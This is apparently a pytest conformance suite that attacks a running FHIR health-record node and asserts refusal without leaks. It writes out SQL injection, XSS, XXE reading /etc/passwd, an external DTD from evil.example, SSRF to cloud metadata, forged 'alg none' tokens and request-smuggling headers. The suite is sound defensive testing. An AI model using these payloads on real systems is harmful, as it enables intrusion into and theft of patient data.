"""Hostile requests, raw over a socket, against a running node: a clear refusal, and nothing leaks or breaks.

The cases of ../shared/testvectors/attacks are a suite of `make scoreboard`; more of their kinds are here.
"""

import base64
import json
import socket
from contextlib import suppress
from datetime import timedelta

import pytest
from conformance.scoreboard.attacks.target import ANSWER_SECONDS_MAX, HIDDEN, JSON

from salus.core.access import Purpose, Role
from salus.core.clock import utc_now

ALWAYS_SECRET = ["Traceback", "asyncpg", "psycopg", "syntax error", "/usr/", "site-packages", "salus_wide"]


def check(answer, *, expect="refused", never=()):
    assert answer.status < 500, (answer.status, answer.body[:500])
    for secret in [*ALWAYS_SECRET, HIDDEN, *never]:
        assert secret not in answer.text, secret
    if answer.status >= 400:
        assert "Secretname" not in answer.text
        assert (
            "OperationOutcome" in answer.text or not answer.body
        )  # no HTTP is refused before FHIR is reached
    if expect == "refused":
        assert 400 <= answer.status < 500, (answer.status, answer.body[:300])
    assert "text/html" not in answer.headers.get("content-type", "")


PATIENT = {"resourceType": "Patient", "name": [{"family": "Test"}]}
NESTED = "[" * 5_000 + "]" * 5_000
PATHS = {
    "a path of 60 kB": ("GET", "/Patient/" + "a" * 60_000),
    "a thousand segments": ("GET", "/Patient" + "/a" * 1_000),
    "double encoded dots": ("GET", "/Patient/%252e%252e/admin"),
    "overlong UTF-8 dots": ("GET", "/Patient/%c0%ae%c0%ae/"),
    "full-width dots": ("GET", "/Patient/%ef%bc%8e%ef%bc%8e/"),
    "a backslash": ("GET", "/Patient/..%5c..%5cetc"),
    "a right-to-left mark in the id": ("GET", "/Patient/own-1a%e2%80%8f"),
    "a Kelvin sign for K": ("GET", "/%e2%84%aaatient/1"),
    "an id with a newline": ("GET", "/Patient/own-1a%0a"),
    "a blank after the id": ("GET", "/Patient/own-1a%20"),
    "a type that is abstract": ("GET", "/DomainResource/1"),
    "a data type as a resource": ("GET", "/HumanName/1"),
    "another's history": ("GET", "/Patient/other-2b/_history"),
    "another's summary": ("GET", "/Patient/other-2b/$summary"),
    "another's everything": ("GET", "/Patient/other-2b/$everything"),
    "another's compartment": ("GET", "/Device/other-2b/Observation"),
    "a version with a sign": ("GET", "/Patient/own-1a/_history/-1"),
    "a version too large": ("GET", "/Patient/own-1a/_history/99999999999999999999"),
    "a version in other digits": ("GET", "/Patient/own-1a/_history/%d9%a1"),
    "a method of no standard": ("BREW", "/Patient/own-1a"),
    "connect": ("CONNECT", "/Patient"),
    "lower-case method": ("get", "/Patient/own-1a"),
    "an unknown operation": ("POST", "/Patient/$sql"),
    "an export by a citizen, synchronous": ("GET", "/$export"),
    "python attributes as operation": ("GET", "/Patient/$__init__"),
    "another's export": ("GET", "/$export/aaaaaaaaaaaaaaaaaaaaaaaaaa"),
    "delete everything": ("DELETE", "/Patient"),
    "delete by a parameter nobody knows": ("DELETE", "/Patient?nonsense=1"),
    "delete by a result parameter only": ("DELETE", "/Patient?_count=1"),
    "delete another's": ("DELETE", "/Patient/other-2b"),
    "delete own record": ("DELETE", "/Patient/own-1a"),
}


@pytest.mark.parametrize("name", sorted(PATHS))
def test_hostile_addresses_are_refused(target, name):
    method, path = PATHS[name]
    check(target.send(method, path, token=target.logins["citizen"]))


SEARCHES = {
    "a value of 60 kB": "/Patient?name=" + "a" * 60_000,
    "3,000 values": "/Patient?_id=" + ",".join(["x"] * 3_000),
    "3,000 parameters": "/Patient?" + "&".join(["name=a"] * 3_000),
    "100 includes": "/Patient?" + "&".join(["_revinclude=Observation:subject"] * 100),
    "every include, iterated": "/Patient?_include:iterate=*&_revinclude:iterate=Observation:subject",
    "revinclude of everything": "/Patient?_revinclude=*",
    "a long chain": "/Observation?subject:Patient."
    + "general-practitioner:Organization."
    + "partof." * 60
    + "name=x",
    "nested _has": "/Patient?" + "_has:Observation:patient:" * 40 + "code=x",
    "a count of 10^30": "/Patient?_count=1" + "0" * 30,
    "a count in other digits": "/Patient?_count=%d9%a1",
    "a sort of 1,000 keys": "/Patient?_sort=" + ",".join(["birthdate"] * 1_000),
    "a sort by a stacked statement": "/Patient?_sort=id%3Bdrop%20table%20resource",
    "a quote in a token": "/Observation?code='%3B%20DROP%20TABLE%20resource%3B--|x",
    "a bind marker": "/Patient?name=$1&identifier=$2|$3",
    "a percent and an escape": "/Patient?name:contains=%25%5C%5F",
    "an array literal": "/Patient?_id={a,b}",
    "a NUL": "/Patient?name=a%00b",
    "a lone surrogate": "/Patient?name=%ed%a0%80",
    "a number of 10^400": "/Observation?value-quantity=gt1e400",
    "a number with a large exponent": "/Observation?value-quantity=1e-999999999",
    "not a number": "/Observation?value-quantity=NaN",
    "infinity": "/Observation?value-quantity=gtinfinity",
    "a date of the year 0": "/Observation?date=0000-01-01",
    "a date of the year 99999": "/Observation?date=gt99999-01-01",
    "the 30th of February": "/Observation?date=2020-02-30",
    "a regular expression": "/Patient?name=(a%2B)%2B%24",
    "a modifier in code": "/Patient?name:__class__=x",
    "a parameter with a quote": "/Patient?na'me=x",
    "a cursor of ours that is none": "/Patient?_cursor=AAAA",
    "a cursor of 60 kB": "/Patient?_cursor=" + "A" * 60_000,
    "a format with markup": "/Patient?_format=%3Cscript%3E",
    "_filter": "/Patient?_filter=name%20eq%20%22x%22%20or%20true",
    "_query": "/Patient?_query=all",
    "another's record by id": "/Patient?_id=other-2b",
    "another's observations": "/Observation?patient=other-2b",
    "another's by reverse chain": "/Patient?_has:Observation:patient:_id=x",
    "a value set elsewhere": "/Observation?code:in=http://169.254.169.254/vs",
    "a profile elsewhere": "/Patient?_profile=http://169.254.169.254/p",
    "elements with a path": "/Patient?_elements=../../x,__class__,name.family",
    "a summary of no kind": "/Patient?_summary=%3Cb%3E",
    "only ampersands": "/Patient?&&&&&&",
    "only an equals sign": "/Patient?=",
}


@pytest.mark.parametrize("name", sorted(SEARCHES))
def test_hostile_searches_break_nothing_and_tell_nothing(target, name):
    path = SEARCHES[name]
    answer = target.send("GET", path, token=target.logins["citizen"])
    check(answer, expect="neutral", never=["other-2b/_history", "DROP TABLE", "<script"])
    if answer.status == 200:
        found = json.loads(answer.body)
        ids = {entry["resource"].get("id") for entry in found.get("entry", ()) if "resource" in entry}
        assert "other-2b" not in ids


BODIES = {
    "nested arrays in an extension": '{"resourceType":"Patient","extension":' + NESTED + "}",
    "nested objects": '{"resourceType":"Patient","a":' * 2_000 + "1" + "}" * 2_000,
    "contained in contained": json.dumps(
        {**PATIENT, "contained": [{**PATIENT, "id": "a", "contained": [{**PATIENT, "id": "b"}]}]}
    ),
    "a lone surrogate": '{"resourceType":"Patient","name":[{"family":"\\ud800"}]}',
    "a duplicate key deep inside": '{"resourceType":"Patient","name":[{"family":"a","text":"b","family":"c"}'
    "]}",
    "not a number": '{"resourceType":"Observation","valueQuantity":{"value":NaN}}',
    "a huge integer": '{"resourceType":"Patient","multipleBirthInteger":' + "9" * 5_000 + "}",
    "a decimal of many digits": '{"resourceType":"Observation","valueQuantity":{"value":1.'
    + "1" * 100_000
    + "}}",
    "a control character": '{"resourceType":"Patient","name":[{"family":"a\u0001b"}]}',
    "a type as a list": '{"resourceType":["Patient"]}',
    "a type that is a number": '{"resourceType":1}',
    "a type with markup": '{"resourceType":"<script>alert(1)</script>"}',
    "a type with markup in lower case": '{"resourceType":"patient"}',
    "an abstract type": '{"resourceType":"DomainResource"}',
    "an id with a slash": '{"resourceType":"Patient","id":"../x"}',
    "an unknown element with markup": '{"resourceType":"Patient","<img src=x onerror=alert(1)>":1}',
    "only null": "null",
    "nothing but blanks": "   ",
    "a comment": '{"resourceType":"Patient" /* x */}',
    "single quotes": "{'resourceType':'Patient'}",
    "truncated": '{"resourceType":"Patient","name":[{"fam',
    "a reference by script": json.dumps(
        {**PATIENT, "managingOrganization": {"reference": "javascript:alert(1)"}, "generalPractitioner": [{}]}
    ),
    "narrative with an image of an event": json.dumps(
        {
            **PATIENT,
            "text": {
                "status": "generated",
                "div": '<div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="a()"/></div>',
            },
        }
    ),
    "narrative with a javascript link": json.dumps(
        {
            **PATIENT,
            "text": {
                "status": "generated",
                "div": '<div xmlns="http://www.w3.org/1999/xhtml"><a href="java\tscript:a()">b</a></div>',
            },
        }
    ),
    "narrative with an entity": json.dumps(
        {
            **PATIENT,
            "text": {
                "status": "generated",
                "div": '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                '<div xmlns="http://www.w3.org/1999/xhtml">&e;</div>',
            },
        }
    ),
}


@pytest.mark.parametrize("name", sorted(BODIES))
def test_hostile_bodies_are_refused(target, name):
    body = BODIES[name].encode("utf-8", "surrogatepass")
    kind = "Observation" if "Observation" in BODIES[name] else "Patient"
    answer = target.send("POST", f"/{kind}", body, token=target.logins["clinician"])
    check(answer, never=["<script", "<img", "root:"])


XML = {
    "external entity": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    '<Patient xmlns="http://hl7.org/fhir"><name><family value="&f;"/></name></Patient>',
    "entity bomb": '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    '<Patient xmlns="http://hl7.org/fhir"><name><family value="&b;"/></name></Patient>',
    "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/e.dtd"> %p;]>'
    '<Patient xmlns="http://hl7.org/fhir"/>',
    "an empty doctype": '<!DOCTYPE Patient><Patient xmlns="http://hl7.org/fhir"/>',
    "XInclude": '<Patient xmlns="http://hl7.org/fhir" xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include href="file:///etc/passwd" parse="text"/></Patient>',
    "another namespace": '<Patient xmlns="urn:hl7-org:v3"><active value="true"/></Patient>',
    "no namespace": "<Patient><active value='true'/></Patient>",
    "deep nesting": '<Patient xmlns="http://hl7.org/fhir">' + "<extension>" * 50_000,
    "50,000 attributes": '<Patient xmlns="http://hl7.org/fhir" '
    + " ".join(f'a{n}="1"' for n in range(50_000))
    + "/>",
    "a CDA document": '<ClinicalDocument xmlns="urn:hl7-org:v3"/>',
    "text between elements": '<Patient xmlns="http://hl7.org/fhir">root:<active value="true"/></Patient>',
    "an element twice": '<Patient xmlns="http://hl7.org/fhir"><active value="true"/>'
    '<active value="false"/></Patient>',
    "JSON": '{"resourceType":"Patient"}',
    "nothing": "",
}


@pytest.mark.parametrize("name", sorted(XML))
def test_hostile_xml_is_refused(target, name):
    answer = target.send(
        "POST",
        "/Patient",
        XML[name].encode(),
        token=target.logins["clinician"],
        content_type="application/fhir+xml",
    )
    check(answer, never=["root:x", "evil.example"])


def bundle(*entries, kind="transaction"):
    return {"resourceType": "Bundle", "type": kind, "entry": list(entries)}


def request(method, url, resource=None, **more):
    entry = {"request": {"method": method, "url": url, **more}}
    return entry | ({"resource": resource} if resource is not None else {})


BUNDLES = {
    "a batch in a batch": bundle(request("POST", "", bundle(kind="batch")), kind="transaction"),
    "another host": bundle(request("GET", "http://127.0.0.1:5432/")),
    "another's read": bundle(request("DELETE", "Patient/other-2b")),
    "another's change": bundle(request("PUT", "Patient/other-2b", {**PATIENT, "id": "other-2b"})),
    "a patient by condition": bundle(request("DELETE", "Patient?name=Secretname")),
    "a subscription inside": bundle(
        request(
            "POST",
            "Subscription",
            {
                "resourceType": "Subscription",
                "status": "requested",
                "reason": "t",
                "criteria": "Observation?",
                "channel": {"type": "rest-hook", "endpoint": "http://169.254.169.254/"},
            },
        )
    ),
    "an audit event inside": bundle(request("POST", "AuditEvent", {"resourceType": "AuditEvent"})),
    "a method of no standard": bundle(request("BREW", "Patient")),
    "metadata by post": bundle(request("POST", "metadata", PATIENT)),
    "a thousand references that are searches": bundle(
        *(
            request(
                "POST",
                "Observation",
                {
                    "resourceType": "Observation",
                    "status": "final",
                    "code": {"text": "x"},
                    "subject": {"reference": f"Patient?identifier=a|{n}"},
                },
            )
            for n in range(1_000)
        )
    ),
    "entries over the limit": bundle(*(request("GET", "Patient") for _ in range(6_000)), kind="batch"),
}


@pytest.mark.parametrize("name", sorted(BUNDLES))
def test_hostile_bundles_are_refused_whole(target, name):
    body = json.dumps(BUNDLES[name]).encode()
    check(target.send("POST", "/", body, token=target.logins["citizen"]))
    answer = target.send("GET", "/Patient/other-2b", token=target.logins["operator"])
    assert (answer.status, json.loads(answer.body)["meta"]["versionId"]) == (200, "1")


def test_a_condition_is_no_oracle_for_what_the_caller_may_not_see(target):
    answers = [
        target.send(
            "POST",
            "/Patient",
            json.dumps(PATIENT).encode(),
            token=target.logins["citizen"],
            headers={"If-None-Exist": condition},
        )
        for condition in ("_id=other-2b", "_id=never-was")
    ]
    assert answers[0].status == answers[1].status


def test_another_nodes_token_and_broken_ones_are_refused_alike(target):
    foreign = target.token(Role.OPERATOR, Purpose.OPERATIONS, keys=target.foreign)
    header, payload, signature = target.logins["citizen"].split(".")
    none = base64.urlsafe_b64encode(b'{"alg":"none","typ":"at+jwt"}').rstrip(b"=").decode()
    later = target.token(Role.CITIZEN, Purpose.PATIENT_REQUEST, now=utc_now() + timedelta(hours=1))
    broken = {
        "foreign": foreign,
        "no signature": f"{header}.{payload}.",
        "algorithm none": f"{none}.{payload}.",
        "algorithm none with signature": f"{none}.{payload}.{signature}",
        "signature changed": f"{header}.{payload}.{signature[:-4]}AAAA",
        "payload changed": f"{header}.{payload[:-4]}AAAA.{signature}",
        "not valid yet": later,
        "two tokens": f"{target.logins['citizen']} {target.logins['citizen']}",
        "very long": "a" * 30_000,
        "not ASCII": "\xe9\xe8",
        "blank": " ",
    }
    for name, token in broken.items():
        answer = target.send("GET", "/Patient/own-1a", headers={"Authorization": f"Bearer {token}"})
        assert answer.status == 401, name
        assert answer.headers["www-authenticate"].startswith("Bearer"), name
        assert "Secretname" not in answer.text, name


@pytest.mark.parametrize(
    "head",
    [
        "Content-Length: 5\r\nTransfer-Encoding: chunked",
        "Content-Length: 5\r\nContent-Length: 500",
        "Content-Length: -1",
        "Content-Length: 5, 5",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding : chunked",
        "Content-Encoding: gzip\r\nContent-Length: 0",
        "X: " + "a" * 200_000,
    ],
)
def test_requests_that_two_readers_would_read_differently_are_refused(target, head):
    token = target.logins["clinician"]
    sent = (
        f"POST /fhir/Patient HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
        f"Content-Type: {JSON}\r\n{head}\r\n\r\n0\r\n\r\nGET /fhir/Patient/own-1a HTTP/1.1\r\nHost: x\r\n"
        f"Authorization: Bearer {token}\r\n\r\n"
    )
    with suppress(ConnectionError):
        answer = target.raw(sent.encode())
        assert b"HTTP/1.1 5" not in answer
        assert b"201 Created" not in answer


def test_two_authorization_headers_are_refused(target):
    token = target.logins["citizen"]
    sent = (
        f"GET /fhir/Patient/own-1a HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        f"Authorization: Bearer {token}\r\nAuthorization: Bearer x\r\n\r\n"
    )
    answer = target.raw(sent.encode(), ends=False)
    assert answer.startswith(b"HTTP/1.1 4")
    assert b"Secretname" not in answer


def test_a_body_without_end_is_cut_off_at_the_limit(target):
    token = target.logins["clinician"]
    head = (
        f"POST /fhir/Patient HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
        f"Content-Type: {JSON}\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    chunk = b"100000\r\n" + b"a" * 0x100000 + b"\r\n"
    with socket.create_connection(("127.0.0.1", target.port), timeout=ANSWER_SECONDS_MAX) as connection:
        connection.sendall(head.encode())
        sent = 0
        with suppress(ConnectionError):
            while sent < 64:
                connection.sendall(chunk)
                sent += 1
        answer = b""
        with suppress(ConnectionError):
            answer = connection.recv(65536)
    assert sent < 64 or answer.startswith(b"HTTP/1.1 4")


def test_no_site_is_let_in_by_origin(target):
    answer = target.send(
        "GET", "/Patient/own-1a", token=target.logins["citizen"], headers={"Origin": "https://evil.example"}
    )
    assert not [name for name in answer.headers if name.startswith("access-control-")]


def test_the_node_still_works_after_all_this(target):
    assert target.send("GET", "/metadata").status == 200
    assert target.send("GET", "/Patient/own-1a", token=target.logins["citizen"]).status == 200
    assert target.attempts() == []
